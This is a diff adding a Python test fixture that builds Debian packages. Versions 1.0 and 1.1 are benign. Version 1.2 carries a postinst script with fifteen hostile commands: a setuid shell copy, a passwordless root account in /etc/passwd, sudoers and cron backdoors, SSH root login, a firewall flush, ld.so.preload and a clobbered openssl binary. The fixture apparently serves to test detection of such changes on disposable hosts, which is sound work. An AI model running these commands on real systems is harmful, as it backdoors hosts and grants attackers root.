@@ -1,0 +1,79 @@
+"""Packages of our own, validly built: a benign one, one that does fifteen hostile things, a lure.
+
+The hostile script is only ever run on throw-away hosts of the fleet.
+"""
+
+import hashlib
+import subprocess
+from pathlib import Path
+
+from answerable.host.driver import Package
+
+NAME = "demo-agent"
+ACTS = {
+    "/usr/local/bin/.shell": "cp /bin/sh /usr/local/bin/.shell; chmod 4755 /usr/local/bin/.shell",
+    "/etc/passwd": "echo toor::0:0::/root:/bin/sh >>/etc/passwd",
+    "/root/.ssh/authorized_keys": "mkdir -p /root/.ssh; echo key >/root/.ssh/authorized_keys",
+    "/etc/cron.d/evil": "mkdir -p /etc/cron.d; echo '* * * * * root id' >/etc/cron.d/evil",
+    "/etc/systemd/system/evil.service": "echo '[Service]' >/etc/systemd/system/evil.service",
+    "/etc/sudoers.d/evil": "mkdir -p /etc/sudoers.d; echo 'ALL ALL=ALL' >/etc/sudoers.d/evil",
+    "/etc/nftables.conf": "nft flush ruleset; echo 'flush ruleset' >/etc/nftables.conf",
+    "/etc/sysctl.d/evil.conf": "echo 77 >/proc/sys/kernel/panic; mkdir -p /etc/sysctl.d;"
+    "echo x >/etc/sysctl.d/evil.conf",
+    "/etc/apt/sources.list.d/evil.list": "echo 'deb http://x x x' >"
+    "/etc/apt/sources.list.d/evil.list",
+    "/etc/modprobe.d/evil.conf": "mkdir -p /etc/modprobe.d; echo x >/etc/modprobe.d/evil.conf",
+    "/etc/ssh/sshd_config": "mkdir -p /etc/ssh; echo PermitRootLogin yes >>/etc/ssh/sshd_config",
+    "/etc/ld.so.preload": "echo /tmp/evil.so >/etc/ld.so.preload; rm /etc/ld.so.preload;"
+    "printf '\\n' >/etc/ld.so.preload",
+    "/usr/bin/openssl": "printf '#!/bin/sh\\n' >/usr/bin/openssl",
+    "/usr/bin/jq": "python3 -c \"import os; os.setxattr('/usr/bin/jq', 'security.capability',"
+    "bytes.fromhex('0100000202000000000000000000000000000000'))\"",
+    "/var/lib/evil/data": "mkdir -p /var/lib/evil; echo x >/var/lib/evil/data;"
+    "(sleep 1000 >/dev/null 2>&1 &)",
+}
+PATHS = tuple(ACTS)
+_CONTROL = """\
+Package: {name}
+Version: {version}
+Architecture: all
+Maintainer: Test <test@example.invalid>
+Description: made by a test
+"""
+
+
+def build(folder: Path) -> dict[str, tuple[Package, Path]]:
+    """Build versions 1.0 and 1.1, which are benign, and 1.2, which is hostile."""
+    hostile = "#!/bin/sh\n" + "".join(f"({act}) || true\n" for act in ACTS.values())
+    scripts = {"1.0": "", "1.1": "#!/bin/sh\ntrue\n", "1.2": hostile}
+    before = {"1.0": "", "1.1": "1.0", "1.2": "1.1"}
+    return {v: _build(folder, NAME, v, before[v], script) for v, script in scripts.items()}
+
+
+def build_sensitive(folder: Path) -> tuple[Package, Path]:
+    """Build a package that ships a unit, a cron file and a setuid program, without any script."""
+    modes = {"usr/bin/sensitive": 0o4755, "lib/systemd/system/sensitive.service": 0o644,
+             "etc/cron.d/sensitive": 0o644}  # fmt: skip
+    return _build(folder, "sensitive", "1", "", "", modes)
+
+
+def _build(
+    folder: Path, name: str, version: str, before: str, script: str,
+    modes: dict[str, int] | None = None,
+) -> tuple[Package, Path]:  # fmt: skip
+    root = folder / f"{name}-{version}"
+    (root / "DEBIAN").mkdir(parents=True)
+    (root / "DEBIAN/control").write_text(_CONTROL.format(name=name, version=version))
+    if script:
+        (root / "DEBIAN/postinst").write_text(script)
+        (root / "DEBIAN/postinst").chmod(0o755)
+    for path, mode in (modes or {f"usr/share/{name}/version": 0o644}).items():
+        (root / path).parent.mkdir(parents=True, exist_ok=True)
+        (root / path).write_text(version)
+        (root / path).chmod(mode)
+    for inner in [p for p in root.rglob("*") if p.is_dir()]:
+        inner.chmod(0o755)
+    deb = folder / f"{name}-{version}.deb"
+    argv = ["dpkg-deb", "--root-owner-group", "--build", str(root), str(deb)]
+    subprocess.run(argv, check=True, capture_output=True)
+    return Package(name, before, version, hashlib.sha256(deb.read_bytes()).hexdigest()), deb
